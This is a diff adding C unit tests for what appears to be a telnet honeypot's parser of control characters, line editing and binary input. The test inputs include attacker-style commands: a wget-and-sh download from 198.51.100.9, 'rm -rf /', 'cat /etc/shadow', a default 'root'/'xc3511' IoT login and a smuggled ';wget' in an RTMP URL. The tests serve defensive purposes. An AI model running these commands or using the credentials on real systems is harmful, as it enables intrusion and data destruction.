@@ -215,6 +215,150 @@ static void test_iac_flood_and_garbage(void)
     CU_ASSERT(s.line.len <= SS_MAX_TELNET_LINE);
 }
 
+/* Logs in on a silent server, so that the next line is a command. */
+static void silent_login(void)
+{
+    CLI("root\r\n");
+    CLI("xc3511\r\n");
+}
+
+static void test_ctrl_c_discards_the_line(void)
+{
+    start();
+    silent_login();
+    const char *keys = "\x03" "exit"; /* character mode: ^C, then exit */
+    for (const char *k = keys; *k; k++)
+        cli(k, 1);
+    CLI("\r\0");
+    CLI("rm -rf /tmp/x\x03id\r\n");      /* ^C in the middle of a line */
+    CLI("reboot\xff\xf4uname\r\n");      /* IAC IP: the line-mode client's ^C */
+    CU_ASSERT_EQUAL_FATAL(ev->n, 5);
+    CU_ASSERT_EQUAL(ev->kind[2], TN_EV_COMMAND);
+    HS_ASSERT_STR(ev->text[2], "exit");
+    HS_ASSERT_STR(ev->text[3], "id");
+    HS_ASSERT_STR(ev->text[4], "uname");
+}
+
+static void test_ctrl_c_alone_is_no_line(void)
+{
+    start();
+    silent_login();
+    CLI("ls\x03\r\n");
+    CLI("\x03\r\n");
+    CU_ASSERT_EQUAL(ev->n, 2); /* the user and password only */
+}
+
+static void test_ctrl_u_and_ctrl_w_edit(void)
+{
+    start();
+    silent_login();
+    CLI("rm -rf /\x15ls -l\r\n");          /* ^U kills the line */
+    CLI("cat /etc/shadow\x17passwd\r\n");  /* ^W erases the last word */
+    CLI("echo a  \x17\x17id\r\n");         /* ...with blanks before it */
+    CU_ASSERT_EQUAL_FATAL(ev->n, 5);
+    HS_ASSERT_STR(ev->text[2], "ls -l");
+    HS_ASSERT_STR(ev->text[3], "cat passwd");
+    HS_ASSERT_STR(ev->text[4], "id");
+}
+
+static void test_other_controls_are_not_text(void)
+{
+    start();
+    silent_login();
+    CLI("l\x01s\x07 \x04-a\r\n");          /* ^A, BEL, ^D dropped */
+    CLI("\x1b[A\x1b[1;5Dps\x1bOB\r\n");    /* arrow keys (CSI, SS3) dropped */
+    CLI("\x1b\x03id\r\n");                 /* a control ends an ESC sequence and acts */
+    CU_ASSERT_EQUAL_FATAL(ev->n, 5);
+    HS_ASSERT_STR(ev->text[2], "ls -a");
+    HS_ASSERT_STR(ev->text[3], "ps");
+    HS_ASSERT_STR(ev->text[4], "id");
+    CU_ASSERT_EQUAL(tn_take_problems(&s), 0);
+}
+
+/* Deterministic pseudo-random bytes (xorshift32). */
+static void random_bytes(uint8_t *p, size_t n, uint32_t seed)
+{
+    for (size_t i = 0; i < n; i++) {
+        seed ^= seed << 13;
+        seed ^= seed >> 17;
+        seed ^= seed << 5;
+        p[i] = (uint8_t)seed;
+    }
+}
+
+static void test_random_bytes_are_not_commands(void)
+{
+    start();
+    uint8_t junk[8192];
+    random_bytes(junk, sizeof(junk), 12345);
+    cli((const char *)junk, sizeof(junk));
+    CLI("\r\nroot\r\nwget http://198.51.100.9/x; sh x\r\n"); /* text later does not count */
+    CU_ASSERT_EQUAL(ev->n, 0);
+    CU_ASSERT_EQUAL(tn_take_problems(&s), TN_PROB_NOT_TEXT);
+    cli((const char *)junk, sizeof(junk));
+    CU_ASSERT_EQUAL(tn_take_problems(&s), 0); /* raised once per conversation */
+}
+
+static void test_rtmp_is_not_commands(void)
+{
+    start();
+    /* RTMP's C0 (version 3) and C1 (time, zero, random), then a connect
+     * command in AMF0 that names a URL; a silent server. */
+    uint8_t c1[1 + 1536];
+    c1[0] = 0x03;
+    memset(c1 + 1, 0, 8);
+    random_bytes(c1 + 9, sizeof(c1) - 9, 777);
+    cli((const char *)c1, sizeof(c1));
+    static const char amf[] = "\x03\x00\x00\x00\x00\x00\x6b\x14\x00\x00\x00\x00\x02\x00\x07"
+                              "connect\x00\x3f\xf0\x00\x00\x00\x00\x00\x00\x03\x00\x03"
+                              "app\x02\x00\x04live\x00\x05tcUrl\x02\x00\x1e"
+                              "rtmp://198.51.100.9/live;wget\r\n\x00\x00\x09";
+    CLI(amf);
+    CU_ASSERT_EQUAL(ev->n, 0);
+    CU_ASSERT(tn_take_problems(&s) & TN_PROB_NOT_TEXT);
+}
+
+static void test_text_with_a_few_odd_bytes_is_text(void)
+{
+    start();
+    CLI("\0\0\0j\xc3\xbcrgen\r\n");          /* NUL padding, UTF-8 */
+    CLI("p\xe4ss\xff\xffw\xf6rd\r\n");        /* Latin-1 and a 0xFF data byte */
+    CLI("\x01\x02\x05wget\r\n");
+    CU_ASSERT_EQUAL_FATAL(ev->n, 3);
+    CU_ASSERT_EQUAL(ev->kind[0], TN_EV_USER);
+    HS_ASSERT_STR(ev->text[0], "j\xc3\xbcrgen");
+    CU_ASSERT_EQUAL(ev->kind[1], TN_EV_PASSWORD);
+    CU_ASSERT_EQUAL(ev->kind[2], TN_EV_COMMAND);
+    HS_ASSERT_STR(ev->text[2], "wget");
+    CU_ASSERT_EQUAL(tn_take_problems(&s), 0);
+}
+
+static void test_binary_first_line_with_prompt(void)
+{
+    start();
+    SRV("login: ");
+    CLI("\x01\x02\x05\x06\x0e\x0f" "ab\r\n"); /* 6 of 8 bytes are not text */
+    CLI("root\r\n");
+    CU_ASSERT_EQUAL(ev->n, 0);
+    CU_ASSERT_EQUAL(tn_take_problems(&s), TN_PROB_NOT_TEXT);
+}
+
+static void test_buffers_sized_to_content(void)
+{
+    start();
+    CLI("wget http://x/");                   /* a partial line */
+    CU_ASSERT(s.line.cap <= 32);
+    char big[5000];
+    memset(big, 'A', sizeof(big));
+    cli(big, sizeof(big));
+    CU_ASSERT(s.line.cap >= sizeof(big));
+    CLI("\r\n");
+    CU_ASSERT_EQUAL(s.line.cap, 0);          /* a long line's buffer is given back */
+    CLI("ls\r\n");
+    CU_ASSERT(s.line.cap <= 32);
+    CU_ASSERT_EQUAL(ev->n, 2);
+}
+
 static void test_classify_prompt(void)
 {
     static const struct {
@@ -253,6 +397,15 @@ static CU_TestInfo tests[] = {
     {"endless line is bounded", test_endless_line_is_bounded},
     {"IAC flood and garbage", test_iac_flood_and_garbage},
     {"prompt classification", test_classify_prompt},
+    {"^C discards the line (and IAC IP)", test_ctrl_c_discards_the_line},
+    {"^C alone completes no line", test_ctrl_c_alone_is_no_line},
+    {"^U kills the line, ^W erases a word", test_ctrl_u_and_ctrl_w_edit},
+    {"other C0 controls and ESC sequences are not text", test_other_controls_are_not_text},
+    {"random bytes give no logins or commands", test_random_bytes_are_not_commands},
+    {"RTMP gives no logins, commands or URL", test_rtmp_is_not_commands},
+    {"text with a few odd bytes stays text", test_text_with_a_few_odd_bytes_is_text},
+    {"binary first line despite a login prompt", test_binary_first_line_with_prompt},
+    {"line buffers sized to content", test_buffers_sized_to_content},
     CU_TEST_INFO_NULL,
 };
 
